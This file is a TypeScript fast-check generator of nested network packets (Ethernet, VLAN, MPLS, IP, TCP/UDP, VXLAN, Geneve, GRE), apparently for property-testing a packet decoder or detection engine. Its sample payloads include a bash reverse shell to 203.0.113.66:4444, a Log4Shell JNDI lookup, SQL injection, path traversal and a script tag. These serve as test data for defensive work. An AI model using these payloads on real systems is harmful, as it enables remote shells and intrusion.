/** fast-check's part: packets with a structure, headers within headers, right or with a field that lies. */
import fc from 'fast-check';
import { LINK_TYPE } from '../../src/decode/packet.js';
import {
  arp,
  concat,
  ethernet,
  fragmentIpv4,
  fragmentIpv6,
  geneve,
  geneveOption,
  gre,
  hex,
  icmp,
  icmpv6,
  ipv4,
  ipv6,
  ipv6FragmentBody,
  mpls,
  pppoe,
  sctp,
  tcp,
  udp,
  vlan,
  vxlan,
} from '../support/packet-builder.js';

export interface Frame {
  readonly bytes: Uint8Array;
  readonly linkType: number;
}

/** Few of each, so that packets meet in flows; some that the rules ask for. */
const address4 = fc.constantFrom(
  '10.0.0.1',
  '10.0.0.2',
  '192.168.1.77',
  '203.0.113.66',
  '198.51.100.23',
  '255.255.255.255',
  '0.0.0.0',
);
const address6 = fc.constantFrom('fd00::1', 'fd00::2', '2001:db8::66', '::', 'ff02::1');
const port = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(80, 443, 53, 22, 4444, 4789, 6081, 3389, 0, 65_535) },
  { weight: 1, arbitrary: fc.nat(65_535) },
);
const sometimes = <Type>(arbitrary: fc.Arbitrary<Type>): fc.Arbitrary<Type | undefined> =>
  fc.option(arbitrary, { nil: undefined, freq: 12 });
const half = fc.nat(65_535);
const word = fc.nat(0xffff_ffff);

const text = fc.constantFrom(
  'GET /index.html?id=1%20union%20select HTTP/1.1\r\nHost: example.com\r\nUser-Agent: ${jndi:ldap://203.0.113.66/x}\r\n\r\n',
  'POST /../../etc/passwd HTTP/1.1\r\nContent-Length: 12\r\n\r\n<script>alert',
  'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\nuid=0(root) gid=0(root)',
  'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1',
  'SSH-2.0-OpenSSH_9.6\r\n',
);
const payload = fc.oneof(
  text,
  fc.uint8Array({ maxLength: 80 }),
  fc.nat(3000).map((length) => new Uint8Array(length).fill(0x61)),
);

/** Leaves fields out that are undefined, as the builders fill those in. */
const set = <Fields extends object>(fields: Fields): { [Key in keyof Fields]?: Exclude<Fields[Key], undefined> } =>
  Object.fromEntries(Object.entries(fields).filter(([, value]) => value !== undefined)) as {
    [Key in keyof Fields]?: Exclude<Fields[Key], undefined>;
  };

/** Options that are right one by one: as many as fit. */
const optionList = (most: number, ...options: string[]): fc.Arbitrary<Uint8Array> =>
  fc
    .array(fc.constantFrom(...options), { maxLength: 6 })
    .map((list) =>
      list
        .map(hex)
        .reduce((sum, option) => (sum.length + option.length > most ? sum : concat(sum, option)), new Uint8Array(0)),
    );
const optionsTcp = optionList(
  40,
  '01',
  '020405b4',
  '030307',
  '0402',
  '080a0000000100000002',
  '050a0000000100000002',
  '2202',
);
const options4 = optionList(40, '01', '00', '94040000', '07070400000000', '07070500000000', '9e02', '94');
const options6 = fc
  .array(fc.constantFrom('00', '0100', '01020000', '05020000', '1e0400000000', 'c20400010000'), {
    minLength: 1,
    maxLength: 5,
  })
  .map((list) => hex(list.join('')));

const segment = fc.record({
  srcPort: port,
  dstPort: port,
  seq: fc.oneof(fc.constantFrom(1, 1001, 0xffff_ffff), word),
  ack: fc.oneof(fc.constantFrom(1, 2001), word),
  flags: fc.constantFrom(2, 18, 16, 24, 17, 4, 0, 255),
  headerLength: sometimes(fc.nat(15)),
  options: sometimes(fc.oneof(optionsTcp, fc.uint8Array({ maxLength: 40 }))),
});
const datagram = fc.record({
  srcPort: port,
  dstPort: port,
  length: sometimes(half),
  checksum: sometimes(fc.constant(0)),
});
const transport = fc.oneof(
  { weight: 5, arbitrary: fc.tuple(segment, payload).map(([fields, data]) => tcp(set(fields), data)) },
  { weight: 3, arbitrary: fc.tuple(datagram, payload).map(([fields, data]) => udp(set(fields), data)) },
  fc.tuple(fc.nat(20), fc.nat(5), payload).map(([type, code, data]) => icmp({ type, code }, data)),
  fc.tuple(fc.nat(255), payload).map(([type, data]) => icmpv6({ type }, data)),
  fc.tuple(port, port, payload).map(([srcPort, dstPort, data]) => sctp({ srcPort, dstPort }, data)),
);

const header4 = fc.record({
  src: address4,
  dst: address4,
  id: fc.nat(40),
  ttl: fc.constantFrom(64, 1, 0),
  headerLength: sometimes(fc.nat(15)),
  totalLength: sometimes(half),
  flags: sometimes(fc.nat(7)),
  fragmentOffset: sometimes(fc.nat(8191).map((units) => units * 8)),
  protocol: sometimes(fc.nat(255)),
  options: sometimes(fc.oneof(options4, fc.uint8Array({ maxLength: 40 }))),
});
const extension = fc.oneof(
  fc
    .record({
      type: fc.constantFrom(0, 43, 60, 51, 135),
      body: fc.oneof(options6, fc.uint8Array({ maxLength: 30 })),
      length: sometimes(fc.nat(255)),
    })
    .map(({ type, body, length }) => ({ type, body, ...(length === undefined ? {} : { length }) })),
  fc
    .record({ offset: fc.nat(100).map((units) => units * 8), more: fc.boolean(), id: fc.nat(3) })
    .map((fields) => ({ type: 44, body: ipv6FragmentBody(fields) })),
);
const header6 = fc.record({
  src: address6,
  dst: address6,
  payloadLength: sometimes(half),
  protocol: sometimes(fc.nat(255)),
  extensions: fc.array(extension, { maxLength: 3 }),
});

/** IP and what is above it, tunnels included; `depth` limits fast-check, the decoder has a limit of its own. */
const { network, link } = fc.letrec<{ network: Uint8Array; link: Uint8Array; above: Uint8Array }>((tie) => ({
  above: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    { weight: 8, arbitrary: transport },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.nat(5), tie('link'))
        .map(([vni, inner]) => udp({ dstPort: 4789, checksum: 0 }, vxlan({ vni }, inner))),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.nat(5), tie('network'))
        .map(([vni, inner]) =>
          udp({ dstPort: 6081 }, geneve({ vni, options: geneveOption(0x0108, 1, 'abcdefgh') }, inner)),
        ),
    },
    {
      weight: 1,
      arbitrary: fc.tuple(fc.boolean(), tie('network')).map(([checksum, inner]) => gre({ checksum, key: 7 }, inner)),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.constantFrom(0, 1),
          fc.nat(0xff).map((bits) => bits << 3),
          tie('network'),
        )
        .map(([version, flags, inner]) =>
          gre({ version, flags, key: 7, ...(version === 1 ? { sequence: 1 } : {}) }, inner),
        ),
    },
    { weight: 1, arbitrary: tie('network') },
  ),
  network: fc.oneof(
    { weight: 4, arbitrary: fc.tuple(header4, tie('above')).map(([fields, data]) => ipv4(set(fields), data)) },
    { weight: 1, arbitrary: fc.tuple(header6, tie('above')).map(([fields, data]) => ipv6(set(fields), data)) },
  ),
  link: fc.oneof(
    { weight: 12, arbitrary: tie('network').map((packet) => ethernet({}, packet)) },
    {
      weight: 1,
      arbitrary: tie('network').map((packet) => ethernet({}, vlan({ id: 3, tpid: 0x88a8 }, vlan({ id: 5 }, packet)))),
    },
    { weight: 1, arbitrary: tie('network').map((packet) => ethernet({}, mpls({}, mpls({}, packet)))) },
    { weight: 1, arbitrary: tie('network').map((packet) => ethernet({}, pppoe({}, packet))) },
    {
      weight: 1,
      arbitrary: fc.tuple(fc.nat(20), tie('network')).map(([label, packet]) => ethernet({}, mpls({ label }, packet))),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(0x21, 0x57, 0xc021, 0x123), payload)
        .map(([protocol, data]) => ethernet({}, pppoe({ protocol }, data))),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(0x8926, 0x893f, 0x88e7, 0x8903, 0x88cc), fc.uint8Array({ maxLength: 40 }))
        .map(([type, data]) => ethernet({ type }, data)),
    },
    {
      weight: 1,
      arbitrary: tie('network').map((packet) =>
        ethernet({}, vlan({}, vlan({}, vlan({}, vlan({ type: packet[0] === 0x45 ? 0x0800 : 0x1234 }, packet))))),
      ),
    },
    { weight: 1, arbitrary: fc.constant(ethernet({}, arp())) },
  ),
}));

/** Frames of Ethernet. */
export const frames = link;

/** All fragments of a datagram, in order. */
export const fragments = fc
  .tuple(fc.constantFrom(4, 6), fc.integer({ min: 200, max: 2500 }), fc.integer({ min: 100, max: 700 }), fc.nat(40))
  .map(([version, length, mtu, id]) => {
    const data = udp({ srcPort: 1000, dstPort: 2049 }, 'uid=0(root) '.repeat(Math.ceil(length / 12)));
    return (version === 4 ? fragmentIpv4(ipv4({ id }, data), mtu) : fragmentIpv6(ipv6({}, data), mtu, id)).map((part) =>
      ethernet({}, part),
    );
  });

const mirrored = (frames: fc.Arbitrary<readonly Uint8Array[]>): fc.Arbitrary<readonly Frame[]> =>
  fc
    .tuple(fc.nat(3), frames)
    .map(([vni, list]) => list.map((bytes) => ({ bytes: vxlan({ vni }, bytes), linkType: LINK_TYPE.vxlan })));

const LINK_TYPES = Object.values(LINK_TYPE);

/** A few frames that belong together. */
export const structures: fc.Arbitrary<readonly Frame[]> = fc.oneof(
  { weight: 10, arbitrary: mirrored(link.map((frame) => [frame])) },
  { weight: 2, arbitrary: mirrored(fragments) },
  { weight: 1, arbitrary: link.map((bytes) => [{ bytes, linkType: LINK_TYPE.ethernet }]) },
  { weight: 1, arbitrary: network.map((bytes) => [{ bytes: geneve({ vni: 2 }, bytes), linkType: LINK_TYPE.geneve }]) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...LINK_TYPES), network)
      .map(([linkType, bytes]) => [{ bytes: concat(new Uint8Array(linkType % 5), bytes), linkType }]),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...LINK_TYPES, 147), fc.uint8Array({ maxLength: 200 }))
      .map(([linkType, bytes]) => [{ bytes, linkType }]),
  },
);
